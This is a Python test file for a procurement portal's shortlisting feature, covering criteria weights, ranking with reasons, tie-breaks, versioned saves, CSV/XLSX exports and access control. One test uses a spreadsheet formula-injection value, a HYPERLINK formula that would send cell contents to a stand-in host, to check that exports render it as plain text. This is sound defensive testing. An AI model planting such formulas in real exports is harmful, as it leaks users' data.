"""Shortlisting: weights, gates, ranking with reasons and tie-breaks, versions and exports."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from kernel.errors import ValidationFailed
from posture.identity.permissions import Membership, NotFound, Principal
from posture.storage.engine import transaction
from posture.storage.models import AuditEvent, Product
from posture.storage.models.enums import Role
from supplier_portal.forms import parse_form
from supplier_portal.procurement import shortlists
from supplier_portal.procurement.shortlists import ProductInputs, RequirementForm
from tests.procurement.conftest import TODAY, list_both_products

CRITERIA = [
    {"key": "security_posture", "weight": 40},
    {"key": "price", "weight": 30},
    {"key": "quality", "weight": 20},
    {"key": "social_value", "weight": 10},
]
QUESTIONS = [{"key": "support", "text": "How will you support force control rooms?"}]


def _requirement(pw, lot_id: int, **changes) -> int:
    data = {
        "title": "Records for a small force",
        "lot_ids": [lot_id],
        "criteria": CRITERIA,
        "quality_questions": QUESTIONS,
        **changes,
    }
    with transaction(pw.sessions) as session:
        return shortlists.create_requirement(
            session, pw.people["officer"], pw.orgs["home-office"], parse_form(RequirementForm, data)
        ).id


def _inputs(pw, vault_price=100.0, mapper_price=100.0, vault_quality=3, mapper_quality=3):
    return {
        pw.products["vault"]: ProductInputs(
            price=vault_price, quality={"support": vault_quality}, social_value=50
        ),
        pw.products["mapper"]: ProductInputs(
            price=mapper_price, quality={"support": mapper_quality}, social_value=50
        ),
    }


@pytest.mark.parametrize(
    ("criteria", "message"),
    [
        (
            [{"key": "security_posture", "weight": 50}, {"key": "social_value", "weight": 40}],
            "total 100%, not 90%",
        ),
        (
            [{"key": "security_posture", "weight": 95}, {"key": "social_value", "weight": 5}],
            "at least 10%",
        ),
        (
            [{"key": "security_posture", "weight": 90}, {"key": "price", "weight": 10}],
            "at least 10%",
        ),
    ],
)
def test_weights_must_total_100_with_social_value_at_least_10(criteria, message: str) -> None:
    with pytest.raises(ValidationFailed, match=message):
        parse_form(RequirementForm, {"title": "Bad weights", "lot_ids": [1], "criteria": criteria})


def test_quality_answers_must_be_on_the_0_to_4_scale() -> None:
    with pytest.raises(ValidationFailed, match="not on the 0-4 scale"):
        parse_form(ProductInputs, {"price": 10, "quality": {"support": 5}})


def test_ranking_explains_itself_and_gates_exclude(pw) -> None:
    requirement = _requirement(pw, list_both_products(pw), gates={"allowed_data_locations": ["uk"]})
    with pw.sessions() as session:
        ranking = shortlists.rank_products(
            session, pw.people["officer"], requirement, _inputs(pw), TODAY
        )
    first, excluded = ranking
    assert first["product"] == "vault"
    assert first["rank"] == 1
    assert first["why"].startswith("rank 1 with")
    assert sum(first["contributions"].values()) == pytest.approx(first["total"])
    assert excluded["rank"] is None
    assert "data_location (data held in us)" in excluded["why"]


def test_price_and_quality_move_the_ranking(pw) -> None:
    requirement = _requirement(pw, list_both_products(pw))
    with pw.sessions() as session:
        cheap_mapper = shortlists.rank_products(
            session,
            pw.people["officer"],
            requirement,
            _inputs(pw, vault_price=200, mapper_price=100, vault_quality=1, mapper_quality=4),
            TODAY,
        )
    assert [r["product"] for r in cheap_mapper] == ["mapper", "vault"]
    assert cheap_mapper[0]["components"]["price"] == 100
    assert cheap_mapper[1]["components"]["price"] == 50


def test_ties_break_on_security_then_price_then_product_id(pw) -> None:
    requirement = _requirement(
        pw,
        list_both_products(pw),
        criteria=[{"key": "price", "weight": 90}, {"key": "social_value", "weight": 10}],
        quality_questions=[],
    )
    with pw.sessions() as session:
        ranking = shortlists.rank_products(
            session, pw.people["officer"], requirement, _inputs(pw), TODAY
        )
    assert ranking[0]["total"] == ranking[1]["total"]
    assert [r["product_id"] for r in ranking] == sorted(r["product_id"] for r in ranking)


def test_saves_are_versioned_audited_and_exported(pw) -> None:
    requirement = _requirement(pw, list_both_products(pw))
    with transaction(pw.sessions) as session:
        first = shortlists.save_shortlist(
            session, pw.people["officer"], requirement, _inputs(pw), TODAY
        )
        second = shortlists.save_shortlist(
            session, pw.people["officer"], requirement, _inputs(pw, vault_price=300), TODAY
        )
        versions = (first.version, second.version, second.id)
    assert versions[:2] == (1, 2)
    with pw.sessions() as session:
        csv_text = shortlists.export_csv(session, pw.people["officer"], versions[2])
        xlsx = shortlists.export_xlsx(session, pw.people["officer"], versions[2])
        table = shortlists.compare(
            session, pw.people["officer"], versions[2], list(pw.products.values())
        )
        saved = session.scalars(
            select(AuditEvent.action).where(AuditEvent.action == "shortlist.saved")
        ).all()
    assert csv_text.splitlines()[0].startswith("rank,product,total,score_security_posture")
    assert pd.read_excel(io.BytesIO(xlsx)).shape[0] == 2
    assert set(table.columns) == {"vault", "mapper"}
    assert len(saved) == 2


def test_compare_takes_two_to_five_products(pw) -> None:
    requirement = _requirement(pw, list_both_products(pw))
    with transaction(pw.sessions) as session:
        version = shortlists.save_shortlist(
            session, pw.people["officer"], requirement, _inputs(pw), TODAY
        ).id
    with pw.sessions() as session, pytest.raises(ValidationFailed, match="between 2 and 5"):
        shortlists.compare(session, pw.people["officer"], version, [pw.products["vault"]])


def test_another_buyer_cannot_see_my_shortlist(pw) -> None:
    requirement = _requirement(pw, list_both_products(pw))
    stranger = Principal(
        999, "x@other.police.uk", (Membership(pw.orgs["s2"], Role.FORCE_ASSESSOR),)
    )
    with pw.sessions() as session, pytest.raises(NotFound):
        shortlists.rank_products(session, stranger, requirement, _inputs(pw), TODAY)


def test_a_product_named_like_a_formula_reaches_the_buyers_export_as_text(pw) -> None:
    hostile = '=HYPERLINK("http://127.0.0.1:9/?"&B2,"Vault")'
    with transaction(pw.sessions) as session:
        session.get(Product, pw.products["vault"]).name = hostile
    requirement = _requirement(pw, list_both_products(pw))
    with transaction(pw.sessions) as session:
        version = shortlists.save_shortlist(
            session, pw.people["officer"], requirement, _inputs(pw), TODAY
        ).id
    with pw.sessions() as session:
        csv_text = shortlists.export_csv(session, pw.people["officer"], version)
        xlsx = shortlists.export_xlsx(session, pw.people["officer"], version)
    names = [row["product"] for row in csv.DictReader(io.StringIO(csv_text))]
    assert f"'{hostile}" in names
    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
    shown = [c for c in cells if c.value == hostile]
    assert shown
    assert all(c.data_type == "s" for c in shown)
